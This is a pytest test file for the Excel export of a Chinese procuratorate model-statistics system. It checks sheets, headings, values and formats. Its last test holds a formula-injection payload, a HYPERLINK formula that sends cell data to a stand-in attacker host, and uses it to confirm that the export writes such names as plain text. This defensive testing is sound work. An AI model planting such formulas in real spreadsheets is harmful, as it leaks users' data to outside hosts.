"""The Excel workbook, read back with openpyxl: sheets, headings, values, formats, 说明."""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import openpyxl

from jiancha.stats import StatsFilter, export_xlsx
from jiancha.store import Store
from tests.stats.scenario import CITY, A, B, D, Scenario

NOW = dt.datetime(2025, 4, 1, 2, 30, tzinfo=dt.UTC)
SHEETS = ["效能统计", "在建模型台账", "已建模型台账", "应用成熟模型台账", "成效模型台账", "说明"]


def book(store: Store, wanted: StatsFilter) -> Any:
    return openpyxl.load_workbook(io.BytesIO(export_xlsx(store, wanted, now=NOW)))


def test_funnel_sheet_by_org(store: Store, scenario: Scenario) -> None:
    wanted = StatsFilter(
        group_by="org", org=CITY, date_from=dt.date(2025, 1, 1), date_to=dt.date(2025, 3, 31)
    )
    workbook = book(store, wanted)
    assert workbook.sheetnames == SHEETS
    sheet = workbook["效能统计"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    headings = rows[0]
    assert headings[:6] == ["检察院", "代码", "线索数", "已核查", "核查属实", "成案"]
    assert headings[6:13] == [
        "检察建议",
        "纠正违法通知书",
        "监督立案",
        "监督撤案",
        "公益诉讼立案",
        "抗诉",
        "线索移送",
    ]
    assert "精准率" in headings and "挽回经济损失（元）" in headings
    assert [r[0] for r in rows[1:]] == [
        "海东市人民检察院",
        "　海东市乐都区人民检察院",
        "　海东市平安区人民检察院",
        "合计",
    ]
    column = {heading: index for index, heading in enumerate(headings)}
    ledu = rows[2]
    assert ledu[column["线索数"]] == 3 and ledu[column["纠正违法通知书"]] == 1
    assert ledu[column["精准率"]] == 0.6667 and ledu[column["平均处置天数"]] == 12.5
    assert ledu[column["挽回经济损失（元）"]] == 15000
    assert rows[3][column["平均处置天数"]] is None  # 平安: no action, no average
    total = rows[4]
    assert total[column["线索数"]] == 5 and total[column["成案率"]] == 0.4
    cells = sheet[3]
    assert cells[column["挽回经济损失（元）"]].number_format == "#,##0.00"
    assert cells[column["精准率"]].number_format == "0.0%"
    assert cells[column["线索数"]].number_format == "#,##0"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 24
    assert sheet["A5"].font.b and sheet["C1"].font.b


def test_ledger_sheets(store: Store, scenario: Scenario) -> None:
    workbook = book(store, StatsFilter())
    results = [[c.value for c in row] for row in workbook["成效模型台账"].iter_rows()]
    assert results[0] == [
        "模型编号",
        "模型名称",
        "检察领域",
        "业务条线",
        "建模单位",
        "运行次数",
        "成功运行次数",
        "最近运行日期",
        "线索数",
        "已核查",
        "核查属实",
        "成案",
        "监督文书",
        "文书被采纳",
        "挽回经济损失（元）",
    ]
    assert [r[0] for r in results[1:]] == [B, A]  # by slug
    row = results[2]
    assert row[:7] == [
        A,
        "审前未羁押判处实刑罪犯未交付执行监督模型",
        "刑事检察",
        "刑事执行检察",
        "海东市乐都区人民检察院",
        1,
        1,
    ]
    assert row[8:] == [2, 2, 1, 1, 2, 1, 15000]
    building = [[c.value for c in r] for r in workbook["在建模型台账"].iter_rows()]
    assert [r[0] for r in building[1:]] == [D] and building[1][5] == 0
    assert workbook["已建模型台账"].max_row == 2  # C
    assert workbook["应用成熟模型台账"].max_row == 1  # none: the headings alone
    for name in ("已建模型台账", "应用成熟模型台账"):
        assert workbook[name].freeze_panes == "A2"


def test_notes_sheet_says_what_was_counted_and_when(store: Store, scenario: Scenario) -> None:
    wanted = StatsFilter(
        group_by="month", models=(A,), org=CITY, area="criminal", date_from=dt.date(2025, 1, 1)
    )
    notes = dict((r[0].value, r[1].value) for r in book(store, wanted)["说明"].iter_rows(min_row=2))
    assert notes["统计分组"] == "月份"
    assert notes["模型"] == A and notes["检察院（含下级院）"] == CITY
    assert notes["检察领域"] == "刑事检察（criminal）" and notes["业务条线"] == "全部"
    assert notes["线索发现日期（北京时间）"] == "2025-01-01 至 不限"
    assert notes["生成时间（北京时间）"] == "2025-04-01 10:30:00"
    assert notes["精准率"] == "核查属实 ÷ 已核查"


def test_total_only(store: Store, scenario: Scenario) -> None:
    sheet = book(store, StatsFilter(group_by="total"))["效能统计"]
    assert sheet.max_row == 2
    assert [sheet["A1"].value, sheet["A2"].value, sheet["C2"].value] == ["合计", "合计", 7]


def test_text_that_could_run_as_a_formula_is_written_as_text(
    store: Store, scenario: Scenario
) -> None:
    """OWASP CSV injection: a model named ``=HYPERLINK(…)`` is a string cell, not a formula."""
    from sqlalchemy import update

    from jiancha.store import MarketModel, SupervisionModel

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    with store.session() as session:
        for table in (SupervisionModel, MarketModel):  # the funnel's and the ledgers' names
            session.execute(update(table).where(table.slug == A).values(name=evil))
            session.execute(update(table).where(table.slug == D).values(name="@SUM(1)"))
    workbook = book(store, StatsFilter(group_by="model"))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    shown = {c.value: c for c in cells if isinstance(c.value, str)}
    assert shown[evil].data_type == "s" and shown["@SUM(1)"].data_type == "s"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
